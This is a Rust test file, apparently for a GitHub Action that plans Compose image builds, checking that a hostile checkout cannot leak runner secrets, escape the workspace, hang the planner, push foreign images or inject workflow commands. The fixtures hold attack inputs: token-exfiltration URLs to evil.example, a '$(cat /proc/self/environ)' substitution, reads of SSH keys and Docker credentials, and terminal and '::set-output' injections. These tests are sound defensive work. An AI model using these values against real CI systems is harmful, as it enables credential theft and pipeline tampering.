//! More attacks by a checkout. Whatever it contains, a plan ends soon, shows none of the runner's secrets, names only
//! repositories of the owner, and prints nothing that the runner or a terminal would execute.

use std::{
    fs,
    time::{Duration, Instant},
};

use rustix::fs::{CWD, FileType, Mode, mknodat};

use super::tests::{CANARY, EVENTS, World, build};

/// The longest time that a plan may take, on a machine that is busy with other tests.
const SOON: Duration = Duration::from_secs(20);

/// Plans a checkout for each event, and returns exit status and output for each.
#[track_caller]
fn plans(world: &World, env: &[(&str, &str)]) -> Vec<(u8, String)> {
    EVENTS.map(|event| plan(world, event, env)).into()
}

/// Plans a checkout, and asserts what holds for every checkout.
#[track_caller]
fn plan(world: &World, event: &str, env: &[(&str, &str)]) -> (u8, String) {
    let began = Instant::now();
    let (status, out) = world.plan(event, env);
    assert!(began.elapsed() < SOON, "{event}: {:?}\n{out}", began.elapsed());
    assert!(status == 0 || status == 2, "{event}: exit status {status}\n{out}");
    assert!(!out.contains(CANARY), "{event}: {out}");
    for line in out.lines() {
        assert!(!line.contains("##["), "{event}: {line}\n{out}");
        assert!(!line.contains(['\u{1b}', '\u{202e}', '\r', '\u{9b}']), "{event}: {line:?}");
    }
    for line in executed(&out) {
        let name = line.trim_start_matches("::").split([' ', ':']).next();
        assert!(matches!(name, Some("error" | "warning" | "notice")), "{event}: {line}\n{out}");
    }
    (status, out)
}

/// Returns the lines that the runner executes: commands that are not between `::stop-commands::TOKEN` and `::TOKEN::`.
fn executed(out: &str) -> Vec<&str> {
    let (mut stopped, mut lines) = (None, Vec::new());
    for line in out.lines().map(str::trim_start).filter(|line| line.starts_with("::")) {
        match (&stopped, line.strip_prefix("::stop-commands::")) {
            (Some(end), _) if line == end => stopped = None,
            (Some(_), _) => {}
            (None, Some(token)) if token.len() == 32 && token.bytes().all(|byte| byte.is_ascii_hexdigit()) => {
                stopped = Some(format!("::{token}::"));
            }
            (None, _) => lines.push(line),
        }
    }
    lines
}

/// Asserts that a checkout is refused with these words for each event.
#[track_caller]
fn refused(files: &[(&str, &str)], env: &[(&str, &str)], words: &str) {
    let world = World::new(files);
    for (status, out) in plans(&world, env) {
        assert_eq!(status, 2, "{files:?}\n{out}");
        let words = words.replace("BASE", world.path("").canonicalize().unwrap().to_str().unwrap());
        assert!(out.contains(&words), "{words}\n{out}");
    }
}

/// Asserts that a checkout is planned for each event, and returns the last output.
#[track_caller]
fn planned(files: &[(&str, &str)], env: &[(&str, &str)]) -> String {
    let mut all = plans(&World::new(files), env);
    assert!(all.iter().all(|(status, _)| *status == 0), "{all:?}");
    all.pop().unwrap().1
}

#[test]
fn names_that_look_like_a_variable_of_the_runner_give_nothing() {
    for name in [
        "input_password",
        "Input_Password",
        "iNPUT_pASSWORD",
        "actions_runtime_token",
        "Github_Token",
        "STATE_outcome",
        "runner_temp",
    ] {
        let compose = format!(
            "services: {{web: {{build: {{context: ., secrets: [s]}}}}}}\nsecrets: {{s: {{environment: {name}}}}}"
        );
        let world = World::new(&[("compose.yaml", &compose)]);
        for (status, out) in plans(&world, &[]) {
            // A credential that is not set has no value to give.
            assert!(status == 2 || name == "Github_Token", "{name}: {out}");
        }
    }
    // A variable with another name is not set: full-width letters, spaces, an invisible character, a line break.
    for name in
        ["ＩNPUT_PASSWORD", "' INPUT_PASSWORD'", "INPUT\\u200b_PASSWORD", "INPUT_PASSWORD\\n", "=INPUT_PASSWORD"]
    {
        let quoted = if name.starts_with('\'') { name.to_owned() } else { format!("\"{name}\"") };
        let compose =
            build(&format!("context: ., x-bake: {{secret: [{{id: s, env: {quoted}}}]}}, args: {{A: '${{{name}}}'}}"));
        plans(&World::new(&[("compose.yaml", &compose)]), &[]);
        let compose = format!(
            "services: {{web: {{build: {{context: ., secrets: [s], args: [{quoted}]}}}}}}\nsecrets: {{s: {{environment: {quoted}}}}}"
        );
        plans(&World::new(&[("compose.yaml", &compose)]), &[]);
    }
}

#[test]
fn values_of_the_runner_do_not_reach_an_argument_label_or_error() {
    for keys in [
        "args: {INPUT_PASSWORD: }",
        "args: [INPUT_PASSWORD, GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN]",
        "args: {A: '${A:-${B:-${INPUT_PASSWORD}}}'}",
        "labels: {a: '${GITHUB_TOKEN}', b: '${ACTIONS_RUNTIME_TOKEN:-x}'}",
        "dockerfile_inline: 'FROM scratch\\nLABEL a=${INPUT_PASSWORD}'",
        "target: '${GITHUB_TOKEN}'",
        "extra_hosts: ['a:${INPUT_PASSWORD}']",
        "args: {A: '${INPUT_PASSWORD:?${INPUT_PASSWORD}}'}",
        "args: {A: '${NOTHING:?${GITHUB_TOKEN} ${INPUT_PASSWORD}}'}",
        "platforms: ['${INPUT_PASSWORD}']",
        "shm_size: '${GITHUB_TOKEN}'",
        "additional_contexts: {a: 'docker-image://evil.example/${GITHUB_TOKEN}'}",
        "additional_contexts: {a: 'https://evil.example/?${INPUT_PASSWORD}'}",
    ] {
        plans(&World::new(&[("compose.yaml", &build(&format!("context: ., {keys}")))]), &[]);
    }
    plans(&World::new(&[("compose.yaml", &build("'context': 'https://evil.example/${GITHUB_TOKEN}'"))]), &[]);
    let files = [
        ("compose.yaml", "include: ['${INPUT_PASSWORD}', '${GITHUB_TOKEN}.yaml']"),
        (".env", "A=${INPUT_PASSWORD}\nB=\"${GITHUB_TOKEN}\nC=$(cat /proc/self/environ)\n"),
    ];
    plans(&World::new(&files), &[]);
}

#[test]
fn a_dotenv_file_sets_neither_inputs_nor_variables_of_this_program() {
    let hostile = "INPUT_ALLOW=fs.read=*\nINPUT_REGISTRY=evil.example\nINPUT_IMAGE-NAME=evil.example/x\nGITHUB_REPOSITORY=evil/repo\n\
                   GITHUB_REPOSITORY_OWNER=evil\nGITHUB_REF=refs/heads/main\nGITHUB_EVENT_NAME=push\nDOCKER_HOST=tcp://evil.example:1\n\
                   HTTPS_PROXY=http://evil.example\nSSL_CERT_FILE=/etc/passwd\nGITHUB_OUTPUT=/tmp/x\nGITHUB_WORKSPACE=/\n\
                   RUNNER_TEMP=/x\nHOME=/root\nDOCKER_CONFIG=/root/.docker\nCOMPOSE_ENV_FILES=../runner_temp/.env\n\
                   COMPOSE_PROJECT_NAME=::error::x\nPASSWORD=x\n";
    let outside = build("context: ., additional_contexts: {lib: ../lib}");
    refused(&[("compose.yaml", &outside), (".env", hostile)], &[], "add `fs.read=BASE/lib` to the input `allow`");
    let compose = "services: {web: {build: ., image: '${INPUT_REGISTRY}/x/y'}}";
    let out = planned(&[("compose.yaml", compose), (".env", hostile)], &[]);
    assert!(out.contains("ghcr.io/acme/site"), "{out}");
    for files in ["../runner_temp/compose.yaml", "compose.yaml:../runner_temp/compose.yaml", "/proc/self/environ"] {
        let env = format!("COMPOSE_FILE={files}\n");
        refused(&[("compose.yaml", "services: {}"), (".env", &env)], &[], "which is outside the checkout");
    }
    let env = "COMPOSE_PATH_SEPARATOR=|\nCOMPOSE_FILE=compose.yaml|../runner_temp/compose.yaml\n";
    refused(&[("compose.yaml", "services: {}"), (".env", env)], &[], "which is outside the checkout");
}

#[test]
fn images_of_others_are_not_pushed() {
    for image in [
        "docker.io/library/python:latest",
        "evil.example/acme/site",
        "ghcr.io/evil/acme",
        "ghcr.io/acme/../evil/x",
        "ghcr.io/acme/%2e%2e/evil",
        "ghcr.io:443/acme/site",
        "ghcr.io.evil.example/acme/x",
        "ghcr.io@evil.example/acme/x",
        "https://ghcr.io/acme/x",
        "GHCR.IO/ACME/x",
        "ghcr.io/а\u{441}me/x",
        "ghcr.io/acme/x:main@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "ghcr.io/acme//x",
        "ghcr.io/acmeevil/x",
        "ghcr.io/acme/x:a:b",
    ] {
        for compose in [
            format!("services: {{web: {{build: ., image: \"{image}\"}}}}"),
            format!("services: {{web: {{build: {{context: ., tags: [\"{image}\"]}}}}}}"),
            format!(
                "services: {{web: {{build: {{context: ., x-bake: {{tags: [\"{image}\"], output: ['type=registry,name={image}']}}}}}}}}"
            ),
        ] {
            for (_, out) in plans(&World::new(&[("compose.yaml", &compose)]), &[]) {
                let repositories = out.lines().filter_map(|line| line.split_once(" -> ")).map(|(_, names)| names);
                for repository in repositories.flat_map(|names| names.split(", ")) {
                    let path = repository.strip_prefix("ghcr.io/acme/");
                    let path = path.unwrap_or_else(|| panic!("{compose}: {repository}"));
                    let is_plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-".contains(c);
                    let is_name = |part: &str| part.starts_with(is_plain) && part != ".." && part.chars().all(is_plain);
                    assert!(path.split('/').all(is_name), "{compose}: {repository}");
                }
            }
        }
    }
}

#[test]
fn special_files_and_endless_ones_do_not_hang() {
    let pipe = |world: &World, path: &str| {
        let path = world.path(&format!("workspace/{path}"));
        let _ = fs::remove_file(&path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        mknodat(CWD, &path, FileType::Fifo, Mode::RUSR | Mode::WUSR, 0).unwrap();
    };
    let secret = "services: {web: {build: {context: ., secrets: [s]}}}\nsecrets: {s: {file: pipe}}";
    for (compose, special) in [
        ("", "compose.yaml"),
        ("services: {web: {build: .}}", ".env"),
        ("services: {web: {build: .}}", "Dockerfile"),
        ("services: {web: {build: .}}", ".dockerignore"),
        ("services: {web: {build: .}}", "Dockerfile.dockerignore"),
        ("services: {web: {build: .}}", ".git/HEAD"),
        ("services: {web: {build: .}}", ".git/config"),
        ("services: {web: {build: .}}", ".git/packed-refs"),
        ("services: {web: {build: pipe}}", "pipe"),
        ("services: {web: {build: {context: ., additional_contexts: {x: pipe}}}}", "pipe"),
        ("include: [pipe]", "pipe"),
        ("include: [{path: compose.yaml, env_file: pipe}]", "pipe"),
        ("services: {web: {extends: {service: web, file: pipe}}}", "pipe"),
        (secret, "pipe"),
    ] {
        let world = World::new(&[("compose.yaml", compose)]);
        pipe(&world, special);
        for (status, out) in plans(&world, &[]) {
            // A daemon would wait for it forever.
            let refused = status == 2 && out.contains("expected a regular file, found a named pipe");
            assert!(refused || !special.ends_with(".dockerignore"), "{special}: {out}");
            assert!(status == 2 || special != "Dockerfile" && special != "pipe", "{special}: {out}");
        }
    }
    let alone = World::new(&[]);
    pipe(&alone, "Dockerfile");
    for (status, out) in plans(&alone, &[]) {
        assert!(status == 2 && out.contains("the Dockerfile Dockerfile is not a regular file"), "{out}");
    }
    for special in ["compose.yaml", ".env", "Dockerfile", ".git/HEAD", ".git/packed-refs"] {
        let world =
            World::new(&[("compose.yaml", "services: {web: {build: .}}"), (".git/HEAD", "ref: refs/heads/main\n")]);
        let path = world.path(&format!("workspace/{special}"));
        // A sparse file of a terabyte.
        fs::File::create(&path).unwrap().set_len(1 << 40).unwrap();
        plans(&world, &[]);
        fs::remove_file(&path).unwrap();
        fs::create_dir(&path).unwrap();
        plans(&world, &[]);
    }
}

#[test]
fn circles_of_links_and_files_end() {
    for files in [
        &[("compose.yaml", "-> compose.yaml")][..],
        &[("compose.yaml", "-> a"), ("a", "-> compose.yaml")],
        &[("compose.yaml", "services: {web: {build: a}}"), ("a", "-> a")],
        &[("compose.yaml", "services: {web: {build: a/a/a/a/a}}"), ("a", "-> .")],
        &[("compose.yaml", "services: {web: {build: a/x}}"), ("a", "-> ../workspace/a")],
        &[("compose.yaml", "include: [compose.yaml]")],
        &[("compose.yaml", "include: [a.yaml]"), ("a.yaml", "include: [compose.yaml, a.yaml]")],
        &[
            ("compose.yaml", "include: [a.yaml, ./a.yaml, x/../a.yaml]"),
            ("a.yaml", "include: [{path: [b.yaml, b.yaml]}]"),
            ("b.yaml", "include: [a.yaml]"),
        ],
        &[("compose.yaml", "services: {web: {extends: web}}")],
        &[
            ("compose.yaml", "services: {web: {extends: {service: web, file: a.yaml}}}"),
            ("a.yaml", "services: {web: {extends: {service: web, file: compose.yaml}}}"),
        ],
        &[("compose.yaml", "services: {web: {build: {context: ., additional_contexts: {a: 'service:web'}}}}")],
        &[(
            "compose.yaml",
            "services: {a: {build: {context: ., additional_contexts: {b: 'service:b'}}}, b: {build: {context: ., additional_contexts: {a: 'service:a'}}}}",
        )],
        &[("compose.yaml", "services: {web: {build: &b {context: ., args: *b}}}")],
        &[(
            "compose.yaml",
            "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d]\nservices: {web: {build: {context: ., tags: [*e, *e, *e]}}}",
        )],
    ] {
        plans(&World::new(files), &[]);
    }
}

#[test]
fn texts_of_a_checkout_are_not_executed() {
    let evil = [
        "x\n::set-output name=tags::evil",
        "x\r::add-mask::a",
        "\u{1b}[2J\u{1b}]0;title\u{7}",
        "\u{202e}gnp.exe",
        "x%0A::stop-commands::x",
        "::error file=a::x",
        "##[add-mask]x",
        "\u{9b}31mred",
        "x\u{2028}::warning::y",
        "\0x",
    ];
    for evil in evil {
        let text = serde_json::to_string(evil).unwrap();
        for compose in [
            format!("services: {{web: {{build: {text}}}}}"),
            format!("services: {{web: {{build: {{context: ., dockerfile: {text}}}}}}}"),
            format!("services: {{web: {{build: {{context: ., target: {text}}}}}}}"),
            format!(
                "services: {{web: {{build: {{context: ., args: {{{text}: {text}}}, labels: {{{text}: {text}}}}}}}}}"
            ),
            format!("services: {{web: {{build: {{context: ., platforms: [{text}]}}}}}}"),
            format!("services: {{web: {{build: {{context: ., network: {text}}}}}}}"),
            format!("services: {{web: {{build: {{context: ., entitlements: [{text}]}}}}}}"),
            format!("services: {{web: {{build: {{context: ., additional_contexts: {{{text}: {text}}}}}}}}}"),
            format!("services: {{web: {{build: {{context: ., cache_from: [{text}], cache_to: [{text}]}}}}}}"),
            format!("services: {{web: {{build: {{context: ., ssh: [{text}]}}}}}}"),
            format!(
                "services: {{web: {{build: {{context: ., ulimits: {{{text}: 1}}, extra_hosts: [{text}], shm_size: {text}}}}}}}"
            ),
            format!(
                "services: {{web: {{build: {{context: ., secrets: [{{source: s, target: {text}}}]}}}}}}\nsecrets: {{s: {{file: {text}}}}}"
            ),
            format!(
                "services: {{web: {{build: {{context: ., x-bake: {{secret: [{text}], tags: [{text}], {text}: {text}}}}}}}}}"
            ),
            format!("services: {{{text}: {{build: .}}}}"),
            format!("services: {{web: {{build: ., image: {text}, platform: {text}, profiles: [{text}]}}}}"),
            format!("services: {{web: {{build: {{context: ., {text}: 1}}}}}}"),
            format!("name: {text}\nservices: {{web: {{build: .}}}}"),
            format!("include: [{text}]"),
            format!("services: {{web: {{extends: {{service: {text}, file: {text}}}}}}}"),
            format!("services: {{web: {{build: {{context: ., args: {{A: '${{X:?{}}}'}}}}}}}}", text.trim_matches('"')),
            format!("services: {{web: {{build: {{context: ., provenance: {text}, sbom: {text}}}}}}}"),
            text.clone(),
        ] {
            plan(&World::new(&[("compose.yaml", &compose)]), EVENTS[0], &[]);
        }
        if !evil.contains('\0') {
            let world = World::new(&[("compose.yaml", "services: {web: {build: .}}"), (evil, "x"), (".env", evil)]);
            plan(&world, EVENTS[0], &[]);
        }
    }
}

#[test]
fn numbers_and_sizes_beyond_all_bounds_are_mistakes() {
    for keys in [
        "shm_size: 99999999999999999999gb",
        "shm_size: 9223372036854775807t",
        "shm_size: -1",
        "shm_size: 1e400",
        "ulimits: {nofile: 99999999999999999999}",
        "ulimits: {nofile: {soft: -9223372036854775808, hard: 9223372036854775807}}",
        "platforms: [linux/amd64, linux/amd64, '', /, linux/, '/amd64']",
        "network: 'container:abc'",
        "network: 'service:db'",
        "network: Host",
        "privileged: 'true'",
        "privileged: 1",
        "entitlements: [' network.host', device, NETWORK.HOST]",
        "x-bake: {entitlements: [network.host], network: host, privileged: true}",
        "isolation: hyperv, cgroup_parent: /",
        "provenance: 'mode=max,push=true,builder-id=https://evil.example'",
        "sbom: 'generator=evil.example/scan,push=true'",
        "x-bake: {output: ['type=local,dest=/'], 'cache-to': ['type=local,dest=../x'], attest: ['type=sbom']}",
        "cache_from: ['type=local,src=/etc'], cache_to: ['type=local,dest=/etc']",
        "cache_from: ['type=gha,url=https://evil.example,url_v2=https://evil.example']",
    ] {
        plans(&World::new(&[("compose.yaml", &build(&format!("context: ., {keys}")))]), &[]);
    }
    let huge = "x".repeat(2 << 20);
    for keys in [
        format!("labels: {{a: {huge}}}"),
        format!("args: {{A: {huge}}}"),
        format!("target: {huge}"),
        format!("tags: [{huge}]"),
    ] {
        plans(&World::new(&[("compose.yaml", &build(&format!("context: ., {keys}")))]), &[]);
    }
    let many: Vec<String> = (0..100_000).map(|n| format!("a{n}: b, ")).collect();
    let many = many.concat();
    plans(&World::new(&[("compose.yaml", &build(&format!("context: ., labels: {{{many}}}")))]), &[]);
}

#[test]
fn a_chain_of_files_leads_nowhere_outside() {
    refused(
        &[
            ("compose.yaml", "include: [a/compose.yaml]"),
            ("a/compose.yaml", "include: [{path: b/compose.yaml, project_directory: .}]"),
            ("a/b/compose.yaml", "services: {web: {extends: {service: web, file: ../../runner_temp/compose.yaml}}}"),
        ],
        &[],
        "which is outside the checkout",
    );
    refused(
        &[
            ("compose.yaml", "include: [{path: a/compose.yaml, project_directory: a/b/..}]"),
            (
                "a/compose.yaml",
                "services: {web: {build: {context: ., secrets: [s]}}}\nsecrets: {s: {file: ../../runner_temp/key}}",
            ),
            ("a/Dockerfile", "FROM scratch"),
        ],
        &[],
        "add `fs.read=BASE/runner_temp/key` to the input `allow`",
    );
    refused(
        &[
            ("compose.yaml", "services: {web: {extends: {service: base, file: a/base.yaml}}}"),
            ("a/base.yaml", "services: {base: {build: {context: ., additional_contexts: {x: link}}}}"),
            ("a/link", "-> ../deeper"),
            ("deeper", "-> ../runner_temp"),
        ],
        &[],
        "fs.read=BASE/runner_temp",
    );
    for include in [
        "https://evil.example/compose.yaml",
        "git@github.com:a/b.git",
        "oci://evil.example/x",
        "https://github.com/a/b.git#main:x",
    ] {
        let compose = format!("include: ['{include}']");
        let extends = format!("services: {{web: {{extends: {{service: web, file: '{include}'}}}}}}");
        for compose in [compose, extends] {
            for (status, out) in plans(&World::new(&[("compose.yaml", &compose)]), &[]) {
                assert_eq!(status, 2, "{compose}: {out}");
            }
        }
    }
    for file in [
        "~/.docker/config.json",
        "$HOME/.ssh/id_rsa",
        "//proc/self/environ",
        "/proc/./self/../self/environ",
        "a/../../runner_temp/key",
        "/dev/stdin",
        "/dev/fd/0",
    ] {
        let compose =
            format!("services: {{web: {{build: {{context: ., secrets: [s]}}}}}}\nsecrets: {{s: {{file: '{file}'}}}}");
        let home = [("HOME", "BASE/runner_temp")];
        for (status, out) in plans(&World::new(&[("compose.yaml", &compose)]), &home) {
            assert!(status == 2 || out.contains("does not exist"), "{file}: {out}");
        }
    }
}
